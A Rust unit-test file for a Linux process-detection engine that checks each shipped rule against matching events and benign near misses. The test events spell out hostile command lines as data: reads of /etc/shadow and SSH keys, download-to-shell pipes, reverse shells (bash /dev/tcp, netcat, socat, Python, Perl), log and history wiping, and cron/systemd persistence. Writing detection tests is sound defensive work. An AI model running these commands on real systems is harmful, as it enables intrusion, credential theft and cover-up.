//! The engine's unit tests: every shipped rule against an event it must match and a benign
//! near miss it must not; the mapping and loading in their own files.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;

use daemoneye_proto::pb::control::RuleState;
use daemoneye_proto::pb::events::{ProcessEvent, ProcessEventKind, ProcessInfo};

use super::{Level, RuleSet, RuleSources, builtin};

mod loading;
mod mapping;

/// A process as procmond reports a fresh exec of `argv` from `exe`, run by alice from an
/// interactive bash.
pub(crate) fn process(exe: &str, argv: &[&str]) -> ProcessInfo {
    ProcessInfo {
        pid: 4242,
        ppid: 4100,
        name: Path::new(exe)
            .file_name()
            .map(|n| n.to_string_lossy().chars().take(15).collect())
            .unwrap_or_default(),
        exe: exe.into(),
        cmdline: argv.iter().map(|s| s.to_string()).collect(),
        user: "alice".into(),
        uid: 1000,
        cwd: "/home/alice".into(),
        parent_exe: "/usr/bin/bash".into(),
        parent_cmdline: vec!["-bash".into()],
        ..Default::default()
    }
}

pub(crate) fn creation(p: ProcessInfo) -> ProcessEvent {
    ProcessEvent {
        kind: ProcessEventKind::New as i32,
        process: Some(p),
        source: "netlink".into(),
        ..Default::default()
    }
}

/// An event of the table below: exe, argv, and whether the executable was deleted.
struct Ev(&'static str, &'static [&'static str], bool);

impl Ev {
    fn event(&self) -> ProcessEvent {
        let mut p = process(self.0, self.1);
        p.exe_deleted = self.2;
        creation(p)
    }
}

/// Each shipped rule: events it must match, and benign near misses no shipped rule matches.
struct Case {
    rule: &'static str,
    hits: &'static [Ev],
    misses: &'static [Ev],
}

const SH: &str = "/usr/bin/bash";

const CASES: &[Case] = &[
    Case {
        rule: "credential_shadow_read.yml",
        hits: &[
            Ev("/usr/bin/cat", &["cat", "/etc/shadow"], false),
            Ev("/usr/bin/cp", &["cp", "/etc/gshadow", "/tmp/g"], false),
        ],
        misses: &[Ev("/usr/bin/cat", &["cat", "/etc/passwd"], false)],
    },
    Case {
        rule: "credential_ssh_private_key_read.yml",
        hits: &[
            Ev(
                "/usr/bin/cp",
                &["cp", "/home/alice/.ssh/id_ed25519", "/tmp/k"],
                false,
            ),
            Ev("/usr/bin/cat", &["cat", "/etc/ssh/ssh_host_rsa_key"], false),
        ],
        misses: &[
            Ev(
                "/usr/bin/cat",
                &["cat", "/home/alice/.ssh/id_ed25519.pub"],
                false,
            ),
            Ev(
                "/usr/bin/ssh",
                &["ssh", "-i", "/home/alice/.ssh/id_rsa", "host"],
                false,
            ),
        ],
    },
    Case {
        rule: "cron_crontab_edit.yml",
        hits: &[
            Ev("/usr/bin/crontab", &["crontab", "/tmp/jobs"], false),
            Ev("/usr/bin/crontab", &["crontab", "-e"], false),
        ],
        misses: &[
            Ev("/usr/bin/crontab", &["crontab", "-l"], false),
            Ev("/usr/bin/crontab", &["crontab", "-u", "bob", "-l"], false),
        ],
    },
    Case {
        rule: "cron_file_written.yml",
        hits: &[
            Ev("/usr/bin/cp", &["cp", "job", "/etc/cron.d/job"], false),
            Ev(
                SH,
                &["bash", "-c", "echo '* * * * * root /tmp/x' >> /etc/crontab"],
                false,
            ),
        ],
        misses: &[
            Ev("/usr/bin/cat", &["cat", "/etc/crontab"], false),
            Ev("/usr/bin/ls", &["ls", "-l", "/etc/cron.d/"], false),
        ],
    },
    Case {
        rule: "decode_piped_to_shell.yml",
        hits: &[
            Ev(
                SH,
                &["bash", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"],
                false,
            ),
            Ev(SH, &["sh", "-c", "echo 6869 | xxd -r -p |bash"], false),
        ],
        misses: &[
            Ev(
                SH,
                &["bash", "-c", "echo aGk= | base64 -d | sha256sum"],
                false,
            ),
            Ev("/usr/bin/base64", &["base64", "-d", "cert.b64"], false),
        ],
    },
    Case {
        rule: "deleted_executable_running.yml",
        hits: &[Ev("/usr/local/bin/helper", &["helper", "--daemon"], true)],
        misses: &[Ev("/usr/local/bin/helper", &["helper", "--daemon"], false)],
    },
    Case {
        rule: "download_piped_to_shell.yml",
        hits: &[
            Ev(
                SH,
                &["bash", "-c", "curl -fsSL http://203.0.113.7/i.sh | bash"],
                false,
            ),
            Ev(
                SH,
                &["sh", "-c", "wget -qO- http://203.0.113.7/x | sh -s"],
                false,
            ),
        ],
        misses: &[
            Ev(
                SH,
                &[
                    "bash",
                    "-c",
                    "curl -fsSL https://example.com/a.tgz | sha256sum",
                ],
                false,
            ),
            Ev(
                "/usr/bin/curl",
                &["curl", "-fsSL", "https://example.com/"],
                false,
            ),
        ],
    },
    Case {
        rule: "download_to_temp_directory.yml",
        hits: &[
            Ev(
                "/usr/bin/curl",
                &["curl", "-o", "/tmp/x", "http://203.0.113.7/x"],
                false,
            ),
            Ev(
                "/usr/bin/wget",
                &["wget", "-O", "/dev/shm/.k", "http://203.0.113.7/k"],
                false,
            ),
            Ev(
                "/usr/bin/wget",
                &["wget", "-P", "/var/tmp", "http://203.0.113.7/k"],
                false,
            ),
        ],
        misses: &[Ev(
            "/usr/bin/curl",
            &[
                "curl",
                "-o",
                "/home/alice/x.tgz",
                "https://example.com/x.tgz",
            ],
            false,
        )],
    },
    Case {
        rule: "execution_from_temp_directory.yml",
        hits: &[
            Ev("/tmp/.cache/kworker", &["kworker"], false),
            Ev("/dev/shm/x", &["./x", "-c", "pool"], false),
        ],
        misses: &[Ev("/usr/bin/ls", &["ls", "/tmp/"], false)],
    },
    Case {
        rule: "journal_vacuumed.yml",
        hits: &[Ev(
            "/usr/bin/journalctl",
            &["journalctl", "--vacuum-time=1s"],
            false,
        )],
        misses: &[Ev(
            "/usr/bin/journalctl",
            &["journalctl", "-u", "nginx", "--since", "1h"],
            false,
        )],
    },
    Case {
        rule: "log_files_cleared.yml",
        hits: &[
            Ev("/usr/bin/rm", &["rm", "-f", "/var/log/auth.log"], false),
            Ev("/usr/bin/shred", &["shred", "-u", "/var/log/wtmp"], false),
            Ev(
                SH,
                &["bash", "-c", "cat /dev/null > /var/log/syslog"],
                false,
            ),
        ],
        misses: &[
            Ev("/usr/bin/rm", &["rm", "/var/log/syslog.2.gz"], false),
            Ev("/usr/bin/tail", &["tail", "-f", "/var/log/syslog"], false),
            Ev(
                SH,
                &["sh", "-c", "/opt/app/run >> /var/log/app.log 2>&1"],
                false,
            ),
        ],
    },
    Case {
        rule: "reverse_shell_dev_tcp.yml",
        hits: &[Ev(
            SH,
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
            false,
        )],
        misses: &[Ev(SH, &["bash", "-c", "echo hello > /dev/null"], false)],
    },
    Case {
        rule: "reverse_shell_netcat.yml",
        hits: &[
            Ev(
                "/usr/bin/nc",
                &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
                false,
            ),
            Ev(
                "/usr/bin/ncat",
                &["ncat", "--exec", "/bin/bash", "203.0.113.7", "4444"],
                false,
            ),
        ],
        misses: &[Ev(
            "/usr/bin/nc",
            &["nc", "-zv", "db.internal", "5432"],
            false,
        )],
    },
    Case {
        rule: "reverse_shell_script_oneliner.yml",
        hits: &[
            Ev(
                "/usr/bin/python3",
                &[
                    "python3",
                    "-c",
                    "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));\
                     [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
                ],
                false,
            ),
            Ev(
                "/usr/bin/perl",
                &[
                    "perl",
                    "-e",
                    "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);\
                     open(STDIN,'>&S');exec('/bin/sh -i');",
                ],
                false,
            ),
        ],
        misses: &[Ev(
            "/usr/bin/python3",
            &[
                "python3",
                "-c",
                "import socket; print(socket.gethostname())",
            ],
            false,
        )],
    },
    Case {
        rule: "reverse_shell_socat.yml",
        hits: &[Ev(
            "/usr/bin/socat",
            &[
                "socat",
                "TCP:203.0.113.7:4444",
                "EXEC:/bin/bash,pty,stderr,setsid",
            ],
            false,
        )],
        misses: &[Ev(
            "/usr/bin/socat",
            &["socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"],
            false,
        )],
    },
    Case {
        rule: "shell_history_cleared.yml",
        hits: &[
            Ev(SH, &["bash", "-c", "history -c"], false),
            Ev(SH, &["bash", "-c", "unset HISTFILE; id"], false),
            Ev(
                "/usr/bin/rm",
                &["rm", "-f", "/home/alice/.bash_history"],
                false,
            ),
        ],
        misses: &[
            Ev("/usr/bin/cat", &["cat", "/home/alice/.bash_history"], false),
            Ev(SH, &["bash", "-c", "history | tail -5"], false),
        ],
    },
    Case {
        rule: "systemd_unit_enabled_from_unusual_path.yml",
        hits: &[
            Ev(
                "/usr/bin/systemctl",
                &["systemctl", "enable", "/tmp/update.service"],
                false,
            ),
            Ev(
                "/usr/bin/systemctl",
                &["systemctl", "link", "/home/alice/.x/agent.service"],
                false,
            ),
        ],
        misses: &[Ev(
            "/usr/bin/systemctl",
            &["systemctl", "enable", "nginx.service"],
            false,
        )],
    },
    Case {
        rule: "systemd_unit_written.yml",
        hits: &[
            Ev(
                "/usr/bin/cp",
                &["cp", "x.service", "/etc/systemd/system/x.service"],
                false,
            ),
            Ev(
                SH,
                &[
                    "sh",
                    "-c",
                    "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/x.service",
                ],
                false,
            ),
        ],
        misses: &[Ev(
            "/usr/bin/cat",
            &["cat", "/etc/systemd/system/sshd.service"],
            false,
        )],
    },
];

fn builtin_only() -> RuleSet {
    RuleSet::load(&RuleSources {
        builtin: true,
        directories: Vec::new(),
    })
}

#[test]
fn every_shipped_rule_is_active_and_has_test_events() {
    let set = builtin_only();
    let statuses = set.statuses();
    assert_eq!(statuses.len(), builtin::RULES.len());
    for s in &statuses {
        assert_eq!(s.state(), RuleState::Active, "{}: {}", s.file, s.reason);
        assert_eq!(s.logsource, "linux/process_creation", "{}", s.file);
    }
    assert_eq!(set.active(), builtin::RULES.len());
    for (name, _) in builtin::RULES {
        let case = CASES.iter().filter(|c| c.rule == *name).count();
        assert_eq!(
            case, 1,
            "{name}: a shipped rule needs one test case in detect/tests.rs"
        );
    }
}

#[test]
fn shipped_rules_match_their_events_and_not_near_misses() {
    let set = builtin_only();
    for case in CASES {
        let file = format!("builtin:{}", case.rule);
        for ev in case.hits {
            let hits = set.evaluate(&ev.event());
            assert!(
                hits.iter().any(|r| r.file == file),
                "{}: did not match {:?} ({})",
                case.rule,
                ev.1,
                ev.0
            );
        }
        for ev in case.misses {
            let hits = set.evaluate(&ev.event());
            let names: Vec<&str> = hits.iter().map(|r| r.file.as_str()).collect();
            assert!(
                names.is_empty(),
                "{}: benign {:?} matched {names:?}",
                case.rule,
                ev.1
            );
        }
    }
}

#[test]
fn shipped_rules_carry_the_required_metadata() {
    for (name, text) in builtin::RULES {
        let c = rsigma_parser::parse_sigma_yaml(text).unwrap();
        let r = &c.rules[0];
        assert!(
            r.id.as_deref().is_some_and(|id| id.len() == 36),
            "{name}: id"
        );
        assert_eq!(r.author.as_deref(), Some("DaemonEye"), "{name}: author");
        assert!(
            r.description.as_deref().is_some_and(|d| d.len() > 20),
            "{name}"
        );
        assert!(r.level.is_some(), "{name}: level");
        assert!(!r.falsepositives.is_empty(), "{name}: falsepositives");
        assert!(
            r.tags.iter().any(|t| t.starts_with("attack.t")),
            "{name}: an ATT&CK technique tag"
        );
    }
    let ids: std::collections::HashSet<_> = builtin_only()
        .statuses()
        .into_iter()
        .map(|s| s.rule_id)
        .collect();
    assert_eq!(ids.len(), builtin::RULES.len(), "rule ids are unique");
}

#[test]
fn matches_are_counted_per_rule() {
    let set = builtin_only();
    let ev = Ev("/usr/bin/cat", &["cat", "/etc/shadow"], false).event();
    assert_eq!(set.evaluate(&ev).len(), 1);
    assert_eq!(set.evaluate(&ev).len(), 1);
    let statuses = set.statuses();
    for s in statuses {
        let want = if s.file == "builtin:credential_shadow_read.yml" {
            2
        } else {
            0
        };
        assert_eq!(s.matches, want, "{}", s.file);
    }
}

#[test]
fn only_new_and_modified_events_are_process_creations() {
    let set = builtin_only();
    let mut ev = Ev("/usr/bin/cat", &["cat", "/etc/shadow"], false).event();
    for (kind, matches) in [
        (ProcessEventKind::New, 1),
        (ProcessEventKind::Modified, 1),
        (ProcessEventKind::Exit, 0),
        (ProcessEventKind::Snapshot, 0),
        (ProcessEventKind::Unspecified, 0),
    ] {
        ev.kind = kind as i32;
        assert_eq!(set.evaluate(&ev).len(), matches, "{kind:?}");
    }
    ev.kind = ProcessEventKind::New as i32;
    ev.process = None;
    assert!(set.evaluate(&ev).is_empty());
}

#[test]
fn rule_info_names_the_rule() {
    let set = builtin_only();
    let hits = set.evaluate(&Ev("/usr/bin/cat", &["cat", "/etc/shadow"], false).event());
    let r = &hits[0];
    assert_eq!(r.id, "22948b44-bf4e-4856-bf03-c60c5f082f75");
    assert_eq!(r.title, "Password Hash File Read");
    assert_eq!(r.level, Level::High);
    assert!(r.tags.contains(&"attack.t1003.008".to_string()));
    assert_eq!(r.file, "builtin:credential_shadow_read.yml");
}
